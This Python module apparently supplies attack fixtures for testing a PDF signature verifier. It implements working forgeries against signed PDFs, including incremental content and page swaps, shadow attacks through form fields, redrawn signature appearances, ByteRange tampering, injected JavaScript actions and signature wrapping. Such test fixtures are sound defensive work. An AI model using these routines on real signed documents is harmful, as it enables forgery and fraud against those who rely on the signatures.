"""What an attacker does to a signed PDF: each function takes a file and returns the attacked one."""

import re
import warnings
from collections.abc import Callable
from io import BytesIO
from typing import Any

from asn1crypto import x509 as asn1_x509
from cryptography.hazmat.primitives import serialization
from pyhanko.keys import load_private_key_from_pemder_data
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import ArrayObject, DictionaryObject, NumberObject, StreamObject, pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields as pdf_fields
from pyhanko.sign import signers
from pyhanko.sign.timestamps import TimeStamper
from pyhanko_certvalidator.registry import SimpleCertificateStore

from securedoc.signing.keys import SigningKey

_RANGE = re.compile(rb"/ByteRange \[[0-9 ]+\] *")
_CONTENTS = re.compile(rb"/Contents <([0-9A-Fa-f]+)>")


def last(pattern: re.Pattern[bytes], pdf: bytes) -> re.Match[bytes]:
    return list(pattern.finditer(pdf))[-1]


def edited(pdf: bytes, pattern: re.Pattern[bytes], replacement: bytes) -> bytes:
    """Overwrite the last match in place, keeping every offset."""
    match = last(pattern, pdf)
    assert len(replacement) <= len(match[0])
    return pdf[: match.start()] + replacement.ljust(len(match[0])) + pdf[match.end() :]


def byte_range(pdf: bytes, text: bytes) -> bytes:
    return edited(pdf, _RANGE, text)


def contents(pdf: bytes, text: bytes) -> bytes:
    return edited(pdf, _CONTENTS, text)


def container(pdf: bytes) -> bytes:
    """Return the last signature's container with its padding."""
    return bytes.fromhex(last(_CONTENTS, pdf)[1].decode())


def with_container(pdf: bytes, der: bytes) -> bytes:
    """Put another container into the last signature."""
    match = last(_CONTENTS, pdf)
    room = len(match[1])
    digits = der.hex().upper().encode().ljust(room, b"0")
    assert len(digits) == room
    return pdf[: match.start(1)] + digits + pdf[match.end(1) :]


def updated(pdf: bytes, change: Callable[[Any], None]) -> bytes:
    """Append a revision, as any PDF editor does."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    change(writer)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def page(writer: Any) -> Any:
    return writer.root["/Pages"]["/Kids"][0].get_object()


_OTHER = b"BT /F1 20 Tf 72 700 Td (Noi dung khac) Tj ET"


def content(text: bytes = _OTHER) -> StreamObject:
    return StreamObject(stream_data=text)


def look(text: bytes, width: int, height: int) -> StreamObject:
    """Return a form XObject that draws `text`."""
    stream = content(text)
    stream[pdf_name("/Type")] = pdf_name("/XObject")
    stream[pdf_name("/Subtype")] = pdf_name("/Form")
    stream[pdf_name("/BBox")] = ArrayObject([NumberObject(number) for number in (0, 0, width, height)])
    return stream


def replace_page_content(writer: Any) -> None:
    target = page(writer)
    target["/Contents"] = writer.add_object(content())
    writer.update_container(target)


def overwrite_page_stream(writer: Any) -> None:
    reference = page(writer).raw_get("/Contents").reference
    writer.objects[(reference.generation, reference.idnum)] = content()


def swap_pages(writer: Any) -> None:
    hidden = page(writer)
    twin = DictionaryObject(dict(hidden.items()))
    twin["/Contents"] = writer.add_object(content())
    tree = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Pages"),
            pdf_name("/Count"): NumberObject(1),
            pdf_name("/Kids"): ArrayObject([writer.add_object(twin)]),
        }
    )
    writer.root["/Pages"] = writer.add_object(tree)
    writer.update_root()


def add_page(writer: Any) -> None:
    tree = writer.root["/Pages"]
    extra = DictionaryObject(dict(page(writer).items()))
    extra["/Contents"] = writer.add_object(content())
    tree["/Kids"].append(writer.add_object(extra))
    tree["/Count"] = NumberObject(2)
    writer.update_container(tree)
    writer.update_container(tree["/Kids"])


def add_annotation(writer: Any) -> None:
    target = page(writer)
    box = ArrayObject([generic.FloatObject(number) for number in (50, 50, 500, 700)])
    annotation = DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Stamp"),
            pdf_name("/Rect"): box,
            pdf_name("/AP"): DictionaryObject({pdf_name("/N"): writer.add_object(look(_OTHER, 500, 700))}),
        }
    )
    target["/Annots"].append(writer.add_object(annotation))
    writer.update_container(target["/Annots"])
    writer.update_container(target)


def add_layers(writer: Any) -> None:
    writer.root["/OCProperties"] = DictionaryObject(
        {pdf_name("/OCGs"): ArrayObject(), pdf_name("/D"): DictionaryObject()}
    )
    writer.update_root()


def script() -> DictionaryObject:
    return DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert(1)")}
    )


def add_open_action(writer: Any) -> None:
    writer.root["/OpenAction"] = writer.add_object(script())
    writer.update_root()


def add_page_action(writer: Any) -> None:
    target = page(writer)
    target["/AA"] = DictionaryObject({pdf_name("/O"): script()})
    writer.update_container(target)


def add_named_script(writer: Any) -> None:
    names = ArrayObject([generic.pdf_string("x"), writer.add_object(script())])
    writer.root["/Names"] = DictionaryObject(
        {pdf_name("/JavaScript"): DictionaryObject({pdf_name("/Names"): names})}
    )
    writer.update_root()


def change_title(writer: Any) -> None:
    writer.document_meta.title = "Tên khác"
    writer.update_root()


def add_store(writer: Any) -> None:
    empty = ArrayObject()
    writer.root["/DSS"] = writer.add_object(DictionaryObject({pdf_name("/Certs"): empty}))
    writer.update_root()


def remove_store(writer: Any) -> None:
    del writer.root["/DSS"]
    writer.update_root()


def remove_restrictions(writer: Any) -> None:
    del writer.root["/Perms"]
    writer.update_root()


def field(writer: Any, name: str) -> Any:
    form = writer.root["/AcroForm"]
    return next(f.get_object() for f in form["/Fields"] if f.get_object()["/T"] == name)


def redraw_signature(writer: Any, name: str) -> None:
    """Show another signer's block in a field that stays signed."""
    target = field(writer, name)
    target["/AP"] = DictionaryObject({pdf_name("/N"): writer.add_object(look(_OTHER, 170, 60))})
    writer.update_container(target)


def move_signature(writer: Any, name: str) -> None:
    """Move the box of a signed field over the text."""
    target = field(writer, name)
    target["/Rect"] = ArrayObject([generic.FloatObject(number) for number in (0, 0, 595, 842)])
    writer.update_container(target)


def drop_signature(writer: Any, name: str) -> None:
    target = field(writer, name)
    del target["/V"]
    writer.update_container(target)


def add_text_field(writer: Any, name: str = "GhiChu") -> None:
    """Add a text field with a look of its own; what shadow attacks hide behind."""
    box = ArrayObject([generic.FloatObject(number) for number in (100, 100, 400, 130)])
    drawn = writer.add_object(look(b"BT /F1 12 Tf 2 2 Td (Noi dung that) Tj ET", 300, 30))
    text_field = DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.pdf_string(name),
            pdf_name("/V"): generic.pdf_string("Noi dung that"),
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/F"): NumberObject(4),
            pdf_name("/Rect"): box,
            pdf_name("/AP"): DictionaryObject({pdf_name("/N"): drawn}),
        }
    )
    reference = writer.add_object(text_field)
    form = writer.root.setdefault(
        pdf_name("/AcroForm"), DictionaryObject({pdf_name("/Fields"): ArrayObject()})
    )
    form = form.get_object()
    form["/Fields"].append(reference)
    target = page(writer)
    target.setdefault(pdf_name("/Annots"), ArrayObject())
    target["/Annots"].append(reference)
    for container_ in (form, form["/Fields"], target["/Annots"], target):
        writer.update_container(container_)
    writer.update_root()


def refill_text_field(writer: Any, name: str = "GhiChu") -> None:
    """Replace value and look of a form field after signing: pyHanko's default policy permits it."""
    target = field(writer, name)
    target["/V"] = generic.pdf_string("Noi dung khac")
    drawn = writer.add_object(look(b"BT /F1 12 Tf 2 2 Td (Noi dung khac) Tj ET", 300, 30))
    target["/AP"] = DictionaryObject({pdf_name("/N"): drawn})
    writer.update_container(target)


def stock_signed(  # noqa: PLR0913 - one thing changed at a time
    pdf: bytes,
    name: str,
    key: SigningKey,
    *,
    box: tuple[int, int, int, int] | None = None,
    certify: bool = False,
    perms: pdf_fields.MDPPerm | None = None,
    subfilter: pdf_fields.SigSeedSubFilter = pdf_fields.SigSeedSubFilter.PADES,
    digest: str = "sha256",
    timestamper: TimeStamper | None = None,
) -> bytes:
    """Sign with pyHanko's own signer: the file of another office, or of an attacker."""
    certificate = asn1_x509.Certificate.load(key.certificate)
    store = SimpleCertificateStore()
    store.register_multiple([asn1_x509.Certificate.load(der) for der in key.chain])
    pem = serialization.load_der_private_key(key.private_key.reveal(), None).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    signer = signers.SimpleSigner(
        signing_cert=certificate,
        signing_key=load_private_key_from_pemder_data(pem, None),
        cert_registry=store,
    )
    metadata = signers.PdfSignatureMetadata(
        field_name=name,
        certify=certify,
        docmdp_permissions=perms or pdf_fields.MDPPerm.FILL_FORMS,
        subfilter=subfilter,
        md_algorithm=digest,
    )
    specification = pdf_fields.SigFieldSpec(name, on_page=0, box=box)
    stock = signers.PdfSigner(metadata, signer, timestamper=timestamper, new_field_spec=specification)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        output = stock.sign_pdf(IncrementalPdfFileWriter(BytesIO(pdf)))
    signed: bytes = output.getvalue()
    return signed


def wrapped(pdf: bytes) -> bytes:
    """Mount signature wrapping: move the signed tail to the end, and put a new history in the gap.

    The digest stays right, because the signed bytes stay the same; only the byte range, in a copy
    of the signature dictionary that lies in the gap, tells readers where they went.
    """
    gap = last(_CONTENTS, pdf)
    first, resume = gap.start(1) - 1, gap.end(1) + 1
    tail = pdf[resume:]
    startxref = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    assert startxref > resume
    header = max(pdf.rfind(b" obj", 0, first), 0)
    number = int(pdf[:header].split()[-2])
    root = re.findall(rb"/Root (\d+) 0 R", pdf)[-1]
    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-2])
    filler = b"\n" * (startxref - resume)
    evil = b""
    for _attempt in range(3):  # the byte range contains its own offsets: settle them
        xref = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Root %s 0 R/Size %d/Prev %d>>\n" % (
            number,
            startxref + 400,
            root,
            size,
            previous,
        )
        moved = b"/ByteRange [0 %d %d %d]" % (first, startxref + len(evil), len(tail))
        dictionary = pdf[pdf.index(b"<<", header) : resume] + moved + b">>"
        evil = xref.ljust(400) + b"%d 0 obj\n" % number + dictionary + b"\nendobj\n"
    return pdf[:resume] + filler + evil + tail
